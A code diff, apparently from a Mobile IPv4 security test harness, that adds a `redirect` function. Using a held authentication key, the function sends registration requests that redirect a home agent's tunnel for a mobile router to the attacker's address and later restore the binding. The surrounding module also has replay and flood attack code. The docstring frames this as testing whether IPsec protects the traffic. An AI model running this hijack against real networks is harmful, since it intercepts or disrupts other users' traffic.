@@ -13,7 +13,9 @@ import time
 
 from mip4.wire import codec
 from mip4.wire.errors import CodecError
-from mip4.wire.registration import RegistrationRequest
+from mip4.wire.extensions import MOBILE_HOME_AUTH
+from mip4.wire.ident import timestamp_identification
+from mip4.wire.registration import FLAG_D, FLAG_T, RegistrationReply, RegistrationRequest
 
 ETH_P_ALL, ETH_P_IP = 0x0003, 0x0800  # ETH_P_ALL: a forwarded packet is seen leaving `iface` only so
 COA_OFFSET = 12  # RFC 5944 3.3: type, flags, lifetime, home address, home agent, care-of address
@@ -72,4 +74,32 @@ def attack(iface: str, home_agent: str, own: str, out: str, replays: int = 3, fo
         sent["flood_s"] = round(time.monotonic() - start, 3)
     with open(out, "w") as fh:
         json.dump(sent, fh)
+    return 0
+
+
+def redirect(home_agent: str, home_address: str, own: str, spi: int, key: bytes, hold_s: float, give_back: str,
+             out: str) -> int:
+    """RFC 5265 6.2: a broken x-MIP layer (the attacker holds the x-MIP key). It registers the x-HoA at
+    `own` (D and T bits, as the MR does), so the x-HA tunnels the MR's traffic to it for `hold_s`
+    seconds, then gives the binding back to `give_back` (the MR's care-of), as a transient pseudo-NAT
+    rewriting one request would. What it gets meanwhile is judged from the capture on its link: IPsec
+    keeps it blind (R-6.2-a). The x-HA's replies go to a JSON file."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((own, 0))
+    s.settimeout(3.0)
+    done = {"redirected_to": own, "given_back_to": give_back, "codes": [], "times": []}
+    for care_of in (own, give_back):
+        if care_of == give_back:
+            time.sleep(hold_s)
+        rq = RegistrationRequest(home_address, home_agent, care_of, timestamp_identification(time.time(), 0),
+                                 lifetime=120, flags=FLAG_D | FLAG_T)
+        done["times"].append(time.time())
+        s.sendto(rq.encode_authenticated(MOBILE_HOME_AUTH, spi, key), (home_agent, 434))
+        try:
+            reply = codec.decode_udp(s.recv(65535))
+            done["codes"].append(reply.code if isinstance(reply, RegistrationReply) else None)
+        except (TimeoutError, CodecError):
+            done["codes"].append(None)
+    with open(out, "w") as fh:
+        json.dump(done, fh)
     return 0
